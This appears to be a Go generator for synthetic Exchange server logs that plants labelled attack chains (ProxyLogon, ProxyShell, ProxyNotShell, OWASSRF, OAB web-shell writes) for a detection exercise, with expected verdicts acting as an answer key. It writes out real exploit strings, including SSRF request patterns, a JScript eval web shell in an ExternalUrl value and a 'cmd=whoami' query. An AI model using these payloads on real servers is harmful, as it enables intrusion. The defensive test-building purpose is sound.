package main

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sort"
	"strconv"
)

// Kinds of injected attack chains, in the order they cycle, with the verdict each should earn.
var chainKinds = []struct{ kind, verdict string }{
	{"proxylogon-full", "COMPROMISED"},
	{"proxylogon-attempt", "ATTEMPTED"},
	{"probe", "PROBED"},
	{"proxyshell", "COMPROMISED"},
	{"proxynotshell", "COMPROMISED"},
	{"owassrf", "COMPROMISED"},
	{"webshell-lookalike", "COMPROMISED"},
	{"oab-write", "COMPROMISED"},
}

type chain struct {
	id      int
	kind    string
	verdict string
	ip      string
	occ     int // how many chains of this kind came before
	t0      int64
}

const (
	uaEXSC    = "ExchangeServicesClient/0.0.0.0"
	uaPyReq   = "python-requests/2.25.1"
	uaPyReq28 = "python-requests/2.28.1"
	uaNmap    = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
	uaWinRM   = "Microsoft WinRM Client"
	ssrfBase  = "ServerInfo~a]@" + serverFQ + ":444"
	rpsCAT    = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"
)

var shellUAs = []string{
	"antSword/v2.1",
	uaPyReq,
	"Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
	"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
}

// docAddrs lists the documentation addresses (RFC 5737) in a seeded order.
func docAddrs(r *rand.Rand) []string {
	var out []string
	for _, pfx := range []string{"198.51.100.", "203.0.113.", "192.0.2."} {
		for i := 1; i <= 254; i++ {
			out = append(out, pfx+strconv.Itoa(i))
		}
	}
	r.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}

func randName(r *rand.Rand, n int, alpha string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alpha[r.IntN(len(alpha))]
	}
	return string(b)
}

const (
	lower = "abcdefghijklmnopqrstuvwxyz"
	alnum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
)

// cb builds the events of one chain.
type cb struct {
	p   *plan
	c   *chain
	r   *rand.Rand
	seq *int
}

func (b *cb) add(stream int, t int64, vals []string, marker, what string) {
	*b.seq++
	b.p.events[stream] = append(b.p.events[stream], event{t: t, chain: b.c.id, seq: *b.seq, vals: vals, marker: marker, what: what})
}

// proxy adds a HttpProxy row; set names columns to change from the defaults.
func (b *cb) proxy(stream int, t int64, what string, set map[string]string) {
	v := make([]string, nProxyCols)
	total := 20 + b.r.IntN(400)
	def := map[string]string{
		"RequestId": string(appendGUID(nil, b.r)), "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2176",
		"RevisionVersion": "2", "Protocol": b.p.streams[stream].name, "UrlHost": mailHost, "IsAuthenticated": "False",
		"ClientIpAddress": b.c.ip, "ServerHostName": "EX01", "HttpStatus": "200", "Method": "POST", "ProxyAction": "Proxy",
		"TargetServer": serverFQ, "TargetServerVersion": string(versionServer), "RoutingType": "Server",
		"RoutingHint": "X-BEResource-Cookie", "ServerLocatorHost": serverFQ, "ServerLocatorLatency": "0",
		"RequestBytes": strconv.Itoa(300 + b.r.IntN(900)), "ResponseBytes": strconv.Itoa(200 + b.r.IntN(9000)),
		"TargetOutstandingRequests": "1", "HttpPipelineLatency": "0", "CalculateTargetBackEndLatency": "1",
		"ActivityContextLifeTime": strconv.Itoa(total), "ModuleToHandlerSwitchingLatency": "0",
		"BackendProcessingLatency": strconv.Itoa(total - 3), "ProxyTime": strconv.Itoa(total - 2), "CoreLatency": "2",
		"RoutingLatency": "0", "HttpProxyOverhead": "2", "TotalRequestTime": strconv.Itoa(total),
	}
	for k, x := range set {
		def[k] = x
	}
	if _, ok := set["BackEndStatus"]; !ok {
		def["BackEndStatus"] = def["HttpStatus"]
	}
	var c clock
	gi := ";ActivityContextLifeTime=" + strconv.Itoa(total) + ";BeginRequest=" + string(c.appendISO(nil, t-int64(total))) +
		";CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1941997236;S:ServiceCommonMetadata.HttpMethod=" + def["Method"] +
		";ProxyToDownLevel=False;BeginGetResponse=" + string(c.appendISO(nil, t-int64(total)+3)) +
		";OnResponseReady=" + string(c.appendISO(nil, t-1)) + ";EndGetResponse=" + string(c.appendISO(nil, t-1)) +
		";ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=" + string(c.appendISO(nil, t)) + ";I32:ADS.C[DC01]=1"
	if _, ok := set["GenericInfo"]; !ok {
		def["GenericInfo"] = gi
	}
	for k, x := range def {
		v[proxyCol(k)] = x
	}
	b.add(stream, t, v, "", what)
}

func (b *cb) iis(site int, t int64, method, stem, query, user, ua string, status int, what string) {
	stream, port, cip := sIIS1, "443", b.c.ip
	if site == 2 {
		stream, port = sIIS2, "444"
	}
	taken := 30 + b.r.IntN(900)
	v := []string{serverIP, method, stem, query, port, user, cip, ua, "", strconv.Itoa(status), "0", "0", strconv.Itoa(taken)}
	b.add(stream, t, v, "", what)
}

func (b *cb) ecp(t int64, user, genericInfo, what string) {
	v := []string{"EX01", "", strconv.Itoa(20 + b.r.IntN(200)), b.c.ip, user, string(appendGUID(nil, b.r)),
		string(appendGUID(nil, b.r)), "Cmdlet", strconv.Itoa(100 + b.r.IntN(3000)), genericInfo}
	b.add(sECPServer, t, v, "", what)
}

func (b *cb) oab(t int64, level, msg, marker, what string) {
	v := []string{"EX01", "", strconv.Itoa(8 + b.r.IntN(120)), level, msg}
	b.add(sOABGen, t, v, marker, what)
}

// sec returns a duration between lo and hi seconds in milliseconds.
func (b *cb) sec(lo, hi int) int64 {
	return int64(lo)*secMs + b.r.Int64N(int64(hi-lo)*secMs+1)
}

func (p *plan) planChains() error {
	cfg := p.cfg
	p.events = make([][]event, len(p.streams))
	if cfg.Chains <= 0 {
		return nil
	}
	r := rand.New(rand.NewPCG(cfg.Seed, 0x636861696e73))
	addrs := docAddrs(r)
	span := int64(p.hours) * hourMs
	slot := span / int64(cfg.Chains)
	end := p.startMs + span
	seq := 0
	used := map[string]bool{}
	for i := 0; i < cfg.Chains; i++ {
		k := chainKinds[i%len(chainKinds)]
		c := &chain{id: i + 1, kind: k.kind, verdict: k.verdict, occ: i / len(chainKinds)}
		c.t0 = p.startMs + int64(i)*slot + int64(float64(slot)*(0.05+0.45*r.Float64()))
		if c.t0 > end-hourMs {
			c.t0 = end - hourMs + r.Int64N(10*minMs)
		}
		if c.id%7 == 3 || len(addrs) == 0 { // some chains come over IPv6
			for {
				a := netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, byte(r.IntN(256)), byte(r.IntN(256)), 14: byte(r.IntN(256)), 15: byte(1 + r.IntN(254))})
				if !used[a.String()] {
					c.ip = a.String()
					break
				}
			}
		} else {
			c.ip, addrs = addrs[0], addrs[1:]
		}
		used[c.ip] = true
		b := &cb{p: p, c: c, r: r, seq: &seq}
		switch c.kind {
		case "proxylogon-full":
			b.proxyLogonFull()
		case "proxylogon-attempt":
			b.proxyLogonAttempt()
		case "probe":
			b.probe()
		case "proxyshell":
			b.proxyShell()
		case "proxynotshell":
			b.proxyNotShell()
		case "owassrf":
			b.owaSSRF()
		case "webshell-lookalike":
			b.lookalike()
		case "oab-write":
			b.oabWrite()
		default:
			return fmt.Errorf("unknown chain kind %q", c.kind)
		}
		p.chains = append(p.chains, c)
	}
	for si := range p.events {
		ev := p.events[si]
		sort.Slice(ev, func(a, b int) bool {
			if ev[a].t != ev[b].t {
				return ev[a].t < ev[b].t
			}
			return ev[a].seq < ev[b].seq
		})
		for _, e := range ev {
			if e.t >= end {
				return fmt.Errorf("chain %d runs past the end of the logs", e.chain)
			}
		}
	}
	return nil
}

func (b *cb) proxyLogonFull() {
	r, t := b.r, b.c.t0
	js := "/ecp/y.js"
	if b.c.occ%2 == 1 {
		js = "/ecp/" + randName(r, 1+r.IntN(3), lower) + ".js"
	}
	can := string(canary(r))
	ssrf := func(stream int, t int64, target, status, what string) {
		b.proxy(stream, t, what, map[string]string{"UrlStem": js, "AnchorMailbox": ssrfBase + target, "UserAgent": uaEXSC, "HttpStatus": status})
		st, _ := strconv.Atoi(status)
		b.iis(1, t, "POST", js, "", "", uaEXSC, st, what+" (front end)")
	}
	ssrf(sAutodiscover, t, "/autodiscover/autodiscover.xml?#", "200", "CVE-2021-26855 SSRF to autodiscover.xml (LegacyDN leak)")
	t += b.sec(2, 5)
	ssrf(sMapi, t, "/mapi/emsmdb?#", "200", "CVE-2021-26855 SSRF to /mapi/emsmdb (SID leak)")
	t += b.sec(2, 5)
	ssrf(sEcp, t, "/ecp/proxyLogon.ecp?#", "241", "CVE-2021-26855 SSRF to proxyLogon.ecp answered 241")
	t += b.sec(2, 5)
	ssrf(sEcp, t, "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary="+can+"#", "200", "DDIService GetObject OABVirtualDirectory")
	t += b.sec(2, 5)
	ssrf(sEcp, t, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary="+can+"#", "200", "DDIService SetObject OABVirtualDirectory")
	param := randName(r, 4+r.IntN(6), alnum)
	vdir := string(appendGUID(nil, r))
	b.ecp(t+b.sec(0, 1), `NT AUTHORITY\SYSTEM`,
		`'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["`+param+`"],"unsafe");}</script>''.Identity=''`+vdir+`'''`,
		"CVE-2021-27065 Set-OabVirtualDirectory with script in ExternalUrl")
	t += b.sec(3, 6)
	b.proxy(sEcp, t, "DDIService SetObject ResetOABVirtualDirectory (CVE-2021-27065 reset)", map[string]string{"UrlStem": js,
		"AnchorMailbox": ssrfBase + "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=" + can + "#",
		"UserAgent":     uaEXSC, "HttpStatus": "200"})
	b.iis(1, t, "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory&msExchEcpCanary="+can, "", uaEXSC, 200,
		"POST SetObject schema=ResetOABVirtualDirectory (front end)")
	b.ecp(t+300+r.Int64N(300), `NT AUTHORITY\SYSTEM`, `'S:CMD=Remove-OabVirtualDirectory.Identity=''`+vdir+`''.Force=''True'''`,
		"reset: Remove-OabVirtualDirectory")
	b.ecp(t+900+r.Int64N(600), `NT AUTHORITY\SYSTEM`, `'S:CMD=New-OabVirtualDirectory.WebSiteName=''Default Web Site''.Role=''Mailbox'''`,
		"reset: New-OabVirtualDirectory")
	t += b.sec(180, 480)
	shell := "/aspnet_client/system_web/" + randName(r, 8, alnum) + ".aspx"
	ua := shellUAs[r.IntN(len(shellUAs))]
	n := 5 + r.IntN(16)
	for i := 0; i < n; i++ {
		b.iis(1, t, "POST", shell, "", "", ua, 200, "web shell POST")
		t += b.sec(5, 40)
	}
}

func (b *cb) proxyLogonAttempt() {
	r, t := b.r, b.c.t0
	js := "/ecp/" + randName(r, 1+r.IntN(2), lower) + ".js"
	target := ssrfBase + "/autodiscover/autodiscover.xml?#"
	n := 2 + r.IntN(4)
	for i := 0; i < n; i++ {
		b.proxy(sAutodiscover, t, "CVE-2021-26855 SSRF to autodiscover.xml only", map[string]string{"UrlStem": js, "AnchorMailbox": target, "UserAgent": uaPyReq})
		b.iis(1, t, "POST", js, "", "", uaPyReq, 200, "POST "+js+" (front end)")
		t += b.sec(1, 8)
	}
	m := 1 + r.IntN(3)
	for i := 0; i < m; i++ {
		st := 500
		if r.IntN(3) == 0 {
			st = 404
		}
		b.proxy(sEcp, t, "failed "+js+" request", map[string]string{"UrlStem": js, "AnchorMailbox": target, "UserAgent": uaPyReq,
			"HttpStatus": strconv.Itoa(st), "ErrorCode": "ServerNotFound"})
		b.iis(1, t, "POST", js, "", "", uaPyReq, st, "POST "+js+" failed (front end)")
		t += b.sec(1, 8)
	}
}

func (b *cb) probe() {
	r, t := b.r, b.c.t0
	stream, stem := sOwa, "/owa/auth/x.js"
	if b.c.occ%2 == 1 {
		stream, stem = sEcp, "/ecp/x.js"
	}
	b.proxy(stream, t, "vulnerability probe (nmap-style) via X-AnonResource-Backend", map[string]string{"UrlStem": stem,
		"AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?", "UserAgent": uaNmap, "Method": "GET", "HttpStatus": "500",
		"RoutingHint": "X-AnonResource-Backend-Cookie"})
	b.iis(1, t, "GET", stem, "", "", uaNmap, 500, "probe GET "+stem)
	t += b.sec(1, 3)
	b.proxy(stream, t, "vulnerability probe (nmap-style) via X-BEResource", map[string]string{"UrlStem": stem,
		"AnchorMailbox": "ServerInfo~localhost/owa/auth/logon.aspx?", "UserAgent": uaNmap, "Method": "GET", "HttpStatus": "200"})
	b.iis(1, t, "GET", stem, "", "", uaNmap, 200, "probe GET "+stem)
	t += b.sec(2, 20)
	b.iis(1, t, "GET", "/autodiscover/autodiscover.json", "@test.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@test.com", "",
		uaNmap, 200, "ProxyShell vulnerability check")
	_ = r
}

func (b *cb) proxyShell() {
	r, t := b.r, b.c.t0
	n := 2 + r.IntN(3)
	for i := 0; i < n; i++ {
		b.iis(1, t, "POST", "/autodiscover/autodiscover.json", "@evil.corp/EWS/exchange.asmx/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
			"", uaPyReq, 200, "ProxyShell SSRF to EWS")
		t += b.sec(1, 10)
	}
	m := 3 + r.IntN(4)
	for i := 0; i < m; i++ {
		method := "POST"
		if i == 0 {
			method = "GET"
		}
		b.iis(1, t, method, "/autodiscover/autodiscover.json", "@evil.corp/powershell/?X-Rps-CAT="+rpsCAT+"&Email=autodiscover/autodiscover.json%3F@evil.corp",
			"", uaPyReq, 200, "ProxyShell SSRF to remote PowerShell")
		t += b.sec(2, 15)
	}
	t += b.sec(120, 360)
	shell := "/aspnet_client/" + randName(r, 4+r.IntN(6), lower) + ".aspx"
	k := 3 + r.IntN(8)
	for i := 0; i < k; i++ {
		b.iis(1, t, "POST", shell, "", "", shellUAs[r.IntN(len(shellUAs))], 200, "web shell POST")
		t += b.sec(5, 60)
	}
}

func (b *cb) proxyNotShell() {
	r, t := b.r, b.c.t0
	u := &b.p.pools.users[r.IntN(len(b.p.pools.users))]
	query, ua := "@evil.corp/PowerShell/?serializationLevel=Full;ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@evil.corp", uaPyReq28
	if b.c.occ%2 == 1 {
		query, ua = "@evil.corp/powershell/", uaWinRM
	}
	n := 3 + r.IntN(6)
	for i := 0; i < n; i++ {
		b.iis(1, t, "POST", "/autodiscover/autodiscover.json", query, string(u.win), ua, 200, "ProxyNotShell SSRF to remote PowerShell")
		t += b.sec(1, 20)
	}
}

func (b *cb) owaSSRF() {
	r, t := b.r, b.c.t0
	u := &b.p.pools.users[r.IntN(len(b.p.pools.users))]
	ua := uaPyReq28
	if r.IntN(2) == 0 {
		ua = uaWinRM
	}
	n := 5 + r.IntN(11)
	for i := 0; i < n; i++ {
		b.iis(1, t, "POST", "/owa/mastermailbox%40outlook.com/powershell", "", string(u.win), ua, 200, "OWASSRF to remote PowerShell")
		t += b.sec(1, 20)
	}
}

func (b *cb) lookalike() {
	r, t := b.r, b.c.t0
	n := 4 + r.IntN(7)
	cmd := r.IntN(n)
	ua := shellUAs[r.IntN(len(shellUAs))]
	for i := 0; i < n; i++ {
		q := ""
		if i == cmd {
			q = "cmd=whoami"
		}
		b.iis(1, t, "POST", "/owa/auth/RedirSuiteServerProxy.aspx", q, "", ua, 200, "POST to look-alike page RedirSuiteServerProxy.aspx")
		t += b.sec(3, 45)
	}
}

func (b *cb) oabWrite() {
	r, t := b.r, b.c.t0
	name := "shell"
	if b.c.occ > 0 {
		name = randName(r, 5+r.IntN(4), lower)
	}
	path := `C:\inetpub\wwwroot\aspnet_client\` + name + ".aspx"
	if b.c.occ%2 == 1 {
		path = `\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\` + name + ".aspx"
	}
	b.oab(t, "Warning", "Download failed and temporary file '"+path+"' needs to be removed", path,
		"CVE-2021-26858 OAB generator wrote outside the OAB folder")
	t += b.sec(50, 70)
	ua := shellUAs[r.IntN(len(shellUAs))]
	n := 1 + r.IntN(3)
	for i := 0; i < n; i++ {
		b.iis(1, t, "POST", "/aspnet_client/"+name+".aspx", "", "", ua, 200, "web shell POST")
		t += b.sec(5, 60)
	}
}
